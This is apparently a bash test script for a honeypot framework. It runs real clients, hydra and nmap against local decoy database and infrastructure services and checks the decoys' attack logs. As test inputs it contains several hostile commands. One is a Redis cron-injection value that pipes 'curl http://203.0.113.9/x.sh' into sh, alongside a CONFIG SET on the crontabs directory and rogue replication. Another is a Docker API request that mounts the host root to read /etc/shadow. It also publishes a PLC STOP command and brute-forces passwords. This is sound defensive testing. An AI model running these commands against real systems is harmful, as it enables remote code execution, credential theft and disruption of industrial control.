#!/usr/bin/env bash
# Database and infrastructure deckies against the real tools:
# mysql (mariadb-client), psql, redis-cli, ldapsearch, mosquitto_pub/sub,
# snmpwalk/snmpget, dig, curl (elasticsearch, docker_api, k8s), hydra against
# mysql/postgres/redis (exactly one auth_attempt per try) and nmap -sV naming
# every service. Asserts on DATA_DIR/decnet.log. Installs what it needs.
set -euo pipefail
cd "$(dirname "$0")/../.."

NAME=db_infra.sh
. scripts/lib/interop.sh
interop_need mysql:mariadb-client psql:postgresql-client redis-cli:redis-tools ldapsearch:ldap-utils \
    mosquitto_pub:mosquitto-clients snmpwalk:snmp dig:dnsutils curl:curl hydra:hydra nmap:nmap
interop_workdir decnet-dbinfra
# Checks below are `client | grep -q …`: grep quitting early must not turn
# the client's SIGPIPE into a failure, so only grep's status counts.
set +o pipefail

DB=127.0.63.101
INFRA=127.0.63.102

cat >"$WORK/fleet.ini" <<EOF
[general]
net = 127.0.63.0/24

[db01]
ip = $DB
services = mysql, postgres, redis, mssql, mongodb
distro = debian

[db01.mysql]
user = app
password = Db-Pass-2024

[db01.postgres]
password = Pg-Pass-2024

[db01.redis]
password = Redis-Pass-2024

[infra01]
ip = $INFRA
services = ldap, elasticsearch, docker_api, k8s, snmp, mqtt, redis, dns, sip
distro = ubuntu22

[infra01.ldap]
base_dn = dc=corp,dc=local

[infra01.snmp]
community = n0t-public

[infra01.dns]
zone = corp.local
EOF

interop_serve "$INFRA" "$(p 1883)" 19000

count_log() { # patterns... → number of lines matching all
    local lines
    lines=$(cat "$LOG" 2>/dev/null || true)
    for pat in "$@"; do lines=$(grep -E -- "$pat" <<<"$lines" || true); done
    if [ -z "$lines" ]; then echo 0; else wc -l <<<"$lines"; fi
}

# --- mysql (mariadb client)
mysql -h "$DB" -P "$(p 3306)" -u root -pwrongpw -e 'select 1' >"$WORK/mysql1.out" 2>&1 && fail "mysql wrong password accepted"
# Debian's MariaDB root@localhost is unix_socket: a password over TCP is 1698.
grep -q "ERROR 1698 (28000): Access denied for user 'root'@'localhost'" "$WORK/mysql1.out" || { cat "$WORK/mysql1.out"; fail "mysql access denied text"; }
expect_log "mysql native capture" 'db01 mysql - auth_attempt' 'username="root"' 'secret_kind="mysql_native_password"' 'hashcat="\$mysqlna\$[0-9a-f]{40}\*[0-9a-f]{40}"'
mysql -h "$DB" -P "$(p 3306)" -u app -pDb-Pass-2024 -e 'show databases; select @@version_comment; drop table users' >"$WORK/mysql2.out" 2>&1 || { cat "$WORK/mysql2.out"; fail "mysql configured login"; }
grep -q "information_schema" "$WORK/mysql2.out" || fail "mysql show databases"
expect_log "mysql query logged" 'db01 mysql - command' 'command="drop table users"'
# Unknown users are refused as MariaDB's hash-picked stand-in account
# (accounts app, mariadb.sys, mysql, root): admin -> root, oracle -> mariadb.sys.
mysql -h "$DB" -P "$(p 3306)" -u admin -px -e 'select 1' 2>&1 | grep -q "ERROR 1698 (28000): Access denied for user 'admin'@'localhost'$" || fail "mysql stand-in unix_socket refusal"
mysql -h "$DB" -P "$(p 3306)" -u oracle -px -e 'select 1' 2>&1 | grep -q "ERROR 1045 (28000): Access denied for user 'oracle'@'localhost' (using password: YES)" || fail "mysql stand-in password refusal"

# --- postgres (psql)
PGPASSWORD=wrongpw PGCONNECT_TIMEOUT=5 psql "host=$DB port=$(p 5432) user=postgres dbname=crm sslmode=prefer" -c 'select 1' >"$WORK/psql1.out" 2>&1 && fail "psql wrong password accepted"
grep -q 'password authentication failed for user "postgres"' "$WORK/psql1.out" || { cat "$WORK/psql1.out"; fail "psql error text"; }
expect_log "postgres scram capture" 'db01 postgres - auth_attempt' 'username="postgres"' 'secret_kind="postgres_scram_sha256"' 'database="crm"'
PGPASSWORD=Pg-Pass-2024 psql "host=$DB port=$(p 5432) user=postgres dbname=crm" -At -c 'select version()' >"$WORK/psql2.out" 2>&1 || { cat "$WORK/psql2.out"; fail "psql configured login"; }
grep -q "^PostgreSQL 15" "$WORK/psql2.out" || { cat "$WORK/psql2.out"; fail "psql version"; }
expect_log "postgres query logged" 'db01 postgres - command' 'command="select version\(\)"'

# --- redis (redis-cli)
redis-cli -h "$DB" -p "$(p 6379)" ping 2>&1 | grep -q NOAUTH || fail "redis NOAUTH"
redis-cli -h "$DB" -p "$(p 6379)" --no-auth-warning -a wrongpw ping 2>&1 | grep -qi "WRONGPASS\|invalid" || fail "redis WRONGPASS"
expect_log "redis AUTH capture" 'db01 redis - auth_attempt' 'password="wrongpw"' 'success="false"'
RC="redis-cli -h $DB -p $(p 6379) --no-auth-warning -a Redis-Pass-2024"
$RC info server | grep -q "redis_version:7.0.15" || fail "redis INFO"
# Redis 7 refuses the protected configs; the attempt is still recorded.
$RC config set dir /var/spool/cron/crontabs | grep -q "can't set protected config" || fail "redis CONFIG SET"
$RC config set dbfilename root >/dev/null
$RC set x "* * * * * curl -s http://203.0.113.9/x.sh | sh" >/dev/null
$RC slaveof 203.0.113.9 8886 | grep -q OK || fail "redis SLAVEOF"
expect_log "redis config set dir" 'db01 redis - command' 'exploit="config_set_dir"'
expect_log "redis rogue replication" 'db01 redis - command' 'exploit="rogue_replication"'

# --- ldap (ldapsearch)
ldapsearch -x -H "ldap://$INFRA:$(p 389)" -s base -b "" namingContexts >"$WORK/ldap1.out" 2>&1 || { cat "$WORK/ldap1.out"; fail "ldapsearch rootDSE"; }
grep -q "namingContexts: dc=corp,dc=local" "$WORK/ldap1.out" || { cat "$WORK/ldap1.out"; fail "rootDSE namingContexts"; }
ldapsearch -x -H "ldap://$INFRA:$(p 389)" -D "cn=admin,dc=corp,dc=local" -w 'Ld4p-guess' -b "dc=corp,dc=local" "(uid=*)" >"$WORK/ldap2.out" 2>&1 && fail "ldap bind accepted"
grep -q "Invalid credentials (49)" "$WORK/ldap2.out" || { cat "$WORK/ldap2.out"; fail "ldap invalid credentials"; }
expect_log "ldap bind capture" 'infra01 ldap - auth_attempt' 'username="cn=admin,dc=corp,dc=local"' 'password="Ld4p-guess"'
ldapsearch -x -LLL -H "ldap://$INFRA:$(p 389)" -b "ou=People,dc=corp,dc=local" "(uid=jsmith)" mail >"$WORK/ldap3.out" 2>&1 || { cat "$WORK/ldap3.out"; fail "ldap search"; }
grep -q "mail: jsmith@corp.local" "$WORK/ldap3.out" || { cat "$WORK/ldap3.out"; fail "ldap search result"; }
expect_log "ldap search logged" 'infra01 ldap - command' 'filter="\(uid=jsmith\)"'

# --- mqtt (mosquitto clients)
mosquitto_pub -h "$INFRA" -p "$(p 1883)" -u admin -P 'mq-Pass' -i pwn-1 -t 'plant/line1/plc/cmd' -m 'STOP' || fail "mosquitto_pub"
expect_log "mqtt credentials" 'infra01 mqtt - auth_attempt' 'username="admin"' 'password="mq-Pass"'
expect_log "mqtt publish" 'infra01 mqtt - command' 'topic="plant/line1/plc/cmd"' 'payload="STOP"'
timeout 10 mosquitto_sub -h "$INFRA" -p "$(p 1883)" -t '$SYS/#' -C 1 -W 5 >"$WORK/mqtt.out" 2>&1 || true
grep -q "mosquitto version" "$WORK/mqtt.out" || { cat "$WORK/mqtt.out"; fail "mosquitto_sub \$SYS"; }

# --- snmp (net-snmp tools)
snmpget -v2c -c public -t 1 -r 0 "$INFRA:$(p 161)" 1.3.6.1.2.1.1.1.0 >/dev/null 2>&1 && fail "snmp wrong community answered"
expect_log "snmp community capture" 'infra01 snmp - auth_attempt' 'community="public"' 'success="false"'
snmpwalk -v2c -c n0t-public -t 2 -r 1 "$INFRA:$(p 161)" 1.3.6.1.2.1.1 >"$WORK/snmp.out" 2>&1 || { cat "$WORK/snmp.out"; fail "snmpwalk"; }
grep -q "STRING: \"\?Linux" "$WORK/snmp.out" || { cat "$WORK/snmp.out"; fail "snmp sysDescr"; }
# SNMPv1 too; an Ubuntu persona's agent shows Debian's default view (the
# system group and hrSystem, no interfaces table).
snmpwalk -v1 -c n0t-public -t 2 -r 1 "$INFRA:$(p 161)" 1.3.6.1.2.1.1 >"$WORK/snmp1.out" 2>&1 || { cat "$WORK/snmp1.out"; fail "snmpwalk v1"; }
grep -qE "(sysName.0|iso.3.6.1.2.1.1.5.0) = STRING: " "$WORK/snmp1.out" || { cat "$WORK/snmp1.out"; fail "snmp v1 sysName"; }
snmpwalk -v1 -c n0t-public -t 2 -r 1 "$INFRA:$(p 161)" 1.3.6.1.2.1.2 >"$WORK/snmp1if.out" 2>&1 || true
grep -qE "ifDescr|iso.3.6.1.2.1.2.2.1.2" "$WORK/snmp1if.out" && { cat "$WORK/snmp1if.out"; fail "the Debian default view shows interfaces"; }

# --- dns (dig)
dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" www.corp.local A | grep -qx "$INFRA" || fail "dig A"
dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" version.bind CH TXT | grep -q "9.18" || fail "dig version.bind"
dig +time=2 +tries=1 @"$INFRA" -p "$(p 53)" google.com A | grep -q "status: REFUSED" || fail "dig recursion refused"
# Debian/Ubuntu's bind9 default zones: localhost and its reverse.
dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" localhost A | grep -qx "127.0.0.1" || fail "dig localhost"
dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" -x 127.0.0.1 | grep -qx "localhost." || fail "dig reverse localhost"
dig +time=2 +tries=1 @"$INFRA" -p "$(p 53)" corp.local AXFR >"$WORK/axfr.out" 2>&1 || true
# BIND refuses zone transfers by default; the attempt is recorded.
grep -q "Transfer failed" "$WORK/axfr.out" || { cat "$WORK/axfr.out"; fail "dig axfr refused"; }
expect_log "dns query" 'infra01 dns - request' 'query="www.corp.local"' 'qtype="A"'
expect_log "dns zone transfer" 'infra01 dns - command' 'exploit="zone_transfer"'

# --- sip (nmap's OPTIONS probe below; a REGISTER with a digest here)
expect_sip() { # sends one UDP datagram (python3), prints the status line
    local reply
    reply=$(python3 - "$INFRA" "$(p 5060)" "$1" <<'PY'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(sys.argv[3].replace("\\n", "\r\n").encode(), (sys.argv[1], int(sys.argv[2])))
print(s.recv(4096).decode(errors="replace").split("\r\n")[0])
PY
) || true
    echo "$reply"
}
REG='REGISTER sip:corp.local SIP/2.0\nVia: SIP/2.0/UDP 127.0.0.1:5099;branch=z9hG4bK1\nFrom: <sip:100@corp.local>;tag=1\nTo: <sip:100@corp.local>\nCall-ID: interop-1\nCSeq: 2 REGISTER\nAuthorization: Digest username="100", realm="asterisk", nonce="abcd", uri="sip:corp.local", response="0123456789abcdef0123456789abcdef", algorithm=MD5\nContent-Length: 0\n\n'
expect_sip "$REG" | grep -q "^SIP/2.0 403" || fail "sip REGISTER digest refused"
expect_log "sip digest" 'infra01 sip - auth_attempt' 'username="100"' 'secret_kind="sip_digest_md5"' 'hashcat="\$sip\$\*'

# --- REST decoys (curl)
curl -s "http://$INFRA:$(p 9200)/" | grep -q '"tagline" : "You Know, for Search"' || fail "elasticsearch banner"
curl -s "http://$INFRA:$(p 9200)/_cat/indices?v" | grep -q customers || fail "elasticsearch _cat/indices"
curl -s -X DELETE "http://$INFRA:$(p 9200)/customers" | grep -q acknowledged || fail "elasticsearch delete"
expect_log "elasticsearch delete" 'infra01 elasticsearch - command' 'command="DELETE /customers"'
curl -s "http://$INFRA:$(p 2375)/version" | grep -q '"ApiVersion":"1.43"' || fail "docker /version"
curl -s -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh","-c","cat /host/etc/shadow"],"HostConfig":{"Binds":["/:/host"]}}' \
    "http://$INFRA:$(p 2375)/v1.43/containers/create" | grep -q '"Id"' || fail "docker create"
expect_log "docker create" 'infra01 docker_api - command' 'action="container_create"' 'binds="/:/host"'
curl -sk "https://$INFRA:$(p 6443)/version" | grep -q '"gitVersion":"v1.28.4"' || fail "k8s /version"
curl -sk -H 'Authorization: Bearer eyJstolen.token' "https://$INFRA:$(p 6443)/api/v1/pods" | grep -q PodList || fail "k8s pods"
expect_log "k8s bearer token" 'infra01 k8s - auth_attempt' 'secret_kind="bearer_token"'

# --- hydra: exactly one auth_attempt per login attempt (4 wrong passwords each)
printf 'hydra-pw-1\nhydra-pw-2\nhydra-pw-3\nhydra-pw-4\n' >"$WORK/pw.txt"
hydra_run() { # service, hydra args...
    local svc=$1; shift
    local before after
    before=$(count_log "db01 $svc - auth_attempt")
    hydra "$@" -P "$WORK/pw.txt" -t 1 -s "$(p "$PORT")" "$DB" "$svc" >"$WORK/hydra-$svc.out" 2>&1 || true
    grep -q "1 of 1 target completed, 0 valid password" "$WORK/hydra-$svc.out" || { cat "$WORK/hydra-$svc.out"; fail "hydra $svc did not complete"; }
    sleep 0.5
    after=$(count_log "db01 $svc - auth_attempt")
    [ $((after - before)) = $((4 * ${PER_TRY:-1})) ] || { cat "$WORK/hydra-$svc.out"; fail "hydra $svc: expected $((4 * ${PER_TRY:-1})) auth_attempt lines, got $((after - before))"; }
}
PORT=3306 hydra_run mysql -l root
# The Debian persona's cluster has ssl = on: libpq (sslmode=prefer) logs in
# over TLS and, refused, tries again in plaintext, as against a real one.
PER_TRY=2 PORT=5432 hydra_run postgres -l postgres
PORT=6379 hydra_run redis
[ "$(count_log 'db01 redis - auth_attempt' 'password="hydra-pw-[1-4]"')" = 4 ] || fail "redis hydra passwords not captured in clear"

# --- nmap -sV names every service
nmap -sV -Pn -n -p "$(p 3306),$(p 5432),$(p 1433),$(p 27017)" "$DB" -oN "$WORK/nmap-db.txt" >/dev/null 2>&1 || fail "nmap db"
nmap -sV -Pn -n -p "$(p 389),$(p 9200),$(p 2375),$(p 6443),$(p 1883),$(p 6379)" "$INFRA" -oN "$WORK/nmap-infra.txt" >/dev/null 2>&1 || fail "nmap infra"
nmap -sU -sV -Pn -n -p "$(p 161),$(p 53),$(p 5060)" "$INFRA" -oN "$WORK/nmap-udp.txt" >/dev/null 2>&1 || fail "nmap udp"
cat "$WORK"/nmap-*.txt >"$WORK/nmap.txt"
check_nmap() { grep -E "^$(p $1)/$2 +open +$3" "$WORK/nmap.txt" >/dev/null || { cat "$WORK/nmap.txt"; fail "nmap did not name $3 on $1/$2"; }; }
check_nmap 3306 tcp 'mysql'
check_nmap 5432 tcp 'postgresql'
check_nmap 6379 tcp 'redis'
check_nmap 1433 tcp 'ms-sql-s'
check_nmap 27017 tcp 'mongodb'
check_nmap 389 tcp 'ldap'
check_nmap 9200 tcp 'http'
check_nmap 2375 tcp '(docker|http)'
# nmap 7.93 has no fingerprint for a current kube-apiserver: it sees TLS and
# guesses the port's name, exactly as for a real one.
check_nmap 6443 tcp '(ssl/http|ssl/https|ssl/kubernetes|ssl/sun-sr-https)'
# mqtt-subscribe (a version script) reports the broker's $SYS version.
check_nmap 1883 tcp '(mqtt|mosquitto)'
check_nmap 161 udp 'snmp'
check_nmap 53 udp 'domain'
check_nmap 5060 udp 'sip'
grep -v "^#" "$WORK/nmap.txt" | grep -qi decnet && { cat "$WORK/nmap.txt"; fail "nmap output names decnet"; }
grep -E "^(Nmap scan report|[0-9]+/(tcp|udp))" "$WORK/nmap.txt"

kill "$PID"; wait "$PID" 2>/dev/null || true; PID=""
echo "db_infra.sh: OK"
